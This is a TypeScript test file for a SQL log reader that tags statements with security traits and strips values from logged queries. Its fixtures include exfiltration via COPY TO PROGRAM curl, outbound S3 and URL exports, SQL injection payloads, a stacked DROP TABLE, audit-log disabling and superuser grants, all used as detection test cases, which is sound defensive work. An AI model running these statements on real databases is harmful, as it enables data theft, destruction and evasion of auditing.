// Statements as logs have them: what is kept of them, and that no value is.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { createStatementReader, readStatement } from './read-statement.ts';
import type { Dialect, Trait } from './statement.ts';

const DIALECTS: readonly Dialect[] = ['clickhouse', 'postgresql', 'mysql', 'generic'];

const TABLES: readonly (readonly [Dialect, string, readonly string[]])[] = [
  [
    'clickhouse',
    'WITH c AS (SELECT 1) SELECT * FROM db.T AS a FINAL JOIN c ON 1 = 1 WHERE y IN (SELECT id FROM `q-q`.z)',
    ['db.t', 'q-q.z'],
  ],
  ['clickhouse', "INSERT INTO FUNCTION s3('https://b/x', 'CSV') SELECT * FROM chats", ['chats']],
  ['clickhouse', "SELECT * FROM remote('10.0.0.1', db.t)", []],
  ['clickhouse', 'SHOW CREATE TABLE logs.chat', ['logs.chat']],
  ['postgresql', 'select u.email from app.users u join orders o on o.uid = u.id', ['app.users', 'orders']],
  ['postgresql', "COPY public.users (a, b) TO PROGRAM 'curl http://x'", ['public.users']],
  ['postgresql', 'COPY public.users (a, b) TO STDOUT', ['public.users']],
  ['postgresql', "COPY (SELECT * FROM users) TO '/tmp/x'", ['users']],
  ['postgresql', 'SELECT x FROM generate_series(1, 2) g, LATERAL (SELECT * FROM b) c', ['b']],
  ['postgresql', 'GRANT SELECT ON public.users TO bob', ['public.users']],
  ['mysql', 'INSERT INTO `users` (`a`) VALUES (1), (2)', ['users']],
  ['mysql', 'TRUNCATE TABLE a.b', ['a.b']],
  ['mysql', 'DROP TABLE IF EXISTS a', ['a']],
  ['mysql', "SELECT * INTO OUTFILE '/tmp/x' FROM `users`", ['users']],
];

const TRAITS: readonly (readonly [Dialect, string, readonly Trait[]])[] = [
  ['postgresql', 'SELECT id, name FROM users WHERE id = $1', []],
  ['postgresql', 'SELECT count(*) FROM users', []],
  ['postgresql', 'SELECT * FROM users', ['all-columns', 'unbounded']],
  ['postgresql', 'SELECT * FROM users LIMIT 100', ['all-columns']],
  ['postgresql', 'SELECT name FROM (SELECT * FROM users WHERE a = 1) x', ['all-columns', 'unbounded']],
  ['postgresql', 'SELECT table_name FROM information_schema.tables LIMIT 5', ['catalogue']],
  ['postgresql', "COPY users TO PROGRAM 'curl http://x'", ['unbounded', 'outbound', 'server-program', 'export']],
  ['postgresql', 'COPY public.users (a, b) TO STDOUT', ['unbounded', 'export']],
  ['postgresql', "COPY users FROM '/tmp/x'", ['server-file']],
  ['postgresql', 'COPY users FROM STDIN', []],
  ['postgresql', "CREATE ROLE x SUPERUSER LOGIN PASSWORD 'abcdef'", ['grants', 'secret']],
  ['postgresql', 'ALTER SYSTEM SET log_statement = none', ['audit-change']],
  ['postgresql', 'DELETE FROM users', ['unbounded', 'destroys']],
  ['postgresql', 'DELETE FROM users WHERE id = 4', []],
  ['postgresql', 'UPDATE users SET a = 1', ['unbounded']],
  ['postgresql', "SELECT id FROM users WHERE name = 'x' OR 1=1 --", ['tautology', 'comment', 'cut-off']],
  ['postgresql', "SELECT id FROM users WHERE name = '' OR 'a'='a'", ['tautology']],
  ['postgresql', 'SELECT id FROM users WHERE a = b OR c = d', []],
  ['postgresql', 'SELECT id FROM users WHERE 1 = 1 AND a = 5', []],
  ['postgresql', 'SELECT id FROM users WHERE a = 1; DROP TABLE users', ['destroys', 'stacked']],
  ['postgresql', 'SELECT 1 FROM users WHERE id = 1 /*controller=users,action=show*/', []],
  ['postgresql', 'SELECT pg_sleep(5)', ['delays']],
  [
    'mysql',
    'SELECT a FROM t WHERE id=1/**/UNION/**/SELECT password FROM mysql.user',
    ['catalogue', 'comment', 'foreign-columns', 'union'],
  ],
  ['mysql', 'SELECT /*!40001 SQL_NO_CACHE */ * FROM `users`', ['all-columns', 'unbounded', 'export']],
  ['mysql', "SELECT * INTO OUTFILE '/tmp/x' FROM users", ['all-columns', 'unbounded', 'server-file', 'export']],
  ['mysql', 'SET GLOBAL general_log = OFF', ['audit-change']],
  ['mysql', "GRANT ALL ON *.* TO 'x'@'%' IDENTIFIED BY 'secret'", ['grants', 'secret']],
  ['mysql', 'SHOW TABLES', ['catalogue']],
  ['clickhouse', "SELECT * FROM url('http://x/', 'CSV', 'a String') LIMIT 1", ['all-columns', 'outbound']],
  [
    'clickhouse',
    "INSERT INTO FUNCTION s3('https://b/x', 'CSV') SELECT * FROM chats",
    ['all-columns', 'unbounded', 'outbound'],
  ],
  ['clickhouse', 'CREATE TABLE x (a String) ENGINE = URL(CSV)', ['outbound']],
  ['clickhouse', 'SELECT name FROM system.tables WHERE 1', ['catalogue']],
  ['clickhouse', 'SELECT a FROM t WHERE b = 1 SETTINGS log_queries = 0', ['audit-change']],
  ['clickhouse', "BACKUP DATABASE logs TO S3('https://b/x', 'k', 's')", ['outbound', 'export', 'backup']],
];

describe('a statement', () => {
  for (const [dialect, text, tables] of TABLES) {
    it(`names its tables: ${text.slice(0, 60)}`, () => {
      assert.deepEqual(readStatement(text, dialect).tables, tables);
    });
  }

  for (const [dialect, text, traits] of TRAITS) {
    it(`tells what it has: ${text.slice(0, 60)}`, () => {
      assert.deepEqual(readStatement(text, dialect).traits.toSorted(), traits.toSorted());
    });
  }

  it('is told by its last verb, behind WITH and EXPLAIN too', () => {
    const verbOf = (text: string) => readStatement(text, 'postgresql').verb;
    assert.equal(verbOf('explain analyze select 1'), 'SELECT');
    assert.equal(verbOf('WITH x AS (SELECT 1) DELETE FROM t USING x'), 'DELETE');
    assert.equal(verbOf('/* a */ begin; drop table x;'), 'DROP');
    assert.equal(verbOf(''), '');
  });

  it('is shown without values, and the same for other values', () => {
    const shown = (text: string, dialect: Dialect = 'postgresql') => readStatement(text, dialect).text;
    assert.equal(
      shown("select a from t where b in (1, 2, -3) and c = E'it\\'s' -- note"),
      'select a from t where b in(?) and c = ?',
    );
    assert.equal(shown("INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y'), (3, 'z')"), 'INSERT INTO t(a, b) VALUES(?)');
    assert.equal(shown('select $tag$ it "is" $tag$, "name"'), 'select ?, name');
    assert.equal(shown('select "ada@example.org" from `t`', 'mysql'), 'select ? from t');
    assert.equal(shown('select "ada@example.org" from t'), 'select ? from t');
    const [one, other] = [
      readStatement('SELECT a FROM t WHERE b = 1', 'mysql'),
      readStatement("select A  from t\nwhere b='x'", 'mysql'),
    ];
    assert.equal(one.fingerprint, other.fingerprint);
    assert.match(one.fingerprint, /^[0-9a-f]{32}$/);
    assert.notEqual(one.fingerprint, readStatement('SELECT a FROM t WHERE c = 1', 'mysql').fingerprint);
  });

  it('keeps nothing of what stands in quotes, however it is broken', () => {
    const canary = 'canaryvalue';
    const pieces = fc.constantFrom(
      "'",
      '"',
      '`',
      '$$',
      '$a$',
      '\\',
      '--',
      '/*',
      '*/',
      '#',
      '\n',
      ' ',
      '(',
      ')',
      ',',
      ';',
      '=',
      'select',
      'from',
      't',
      '1',
      'or',
      '.',
      'E',
      ':',
      '{',
      '}',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), fc.constantFrom(...DIALECTS), (parts, dialect) => {
        const quoted = readStatement(`select a from t where b = '${canary}' ${parts.join('')}`, dialect);
        assert.ok(!JSON.stringify(quoted).includes(canary));
        assert.deepEqual(
          quoted,
          createStatementReader()(`select a from t where b = '${canary}' ${parts.join('')}`, dialect),
        );
      }),
      { numRuns: 500 },
    );
  });

  it('of any text is told without failing, in time that grows with its length', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), fc.constantFrom(...DIALECTS), (text, dialect) => {
        assert.match(readStatement(text, dialect).fingerprint, /^[0-9a-f]{32}$/);
      }),
      { numRuns: 500 },
    );
    const traps = ['(', "'", '/*', 'select * from a join ', '((((1', 'a.', '- - ', 'x(', "'a' or "];
    for (const trap of traps) readStatement(trap.repeat(1_000_000 / trap.length), 'postgresql');
  });
});
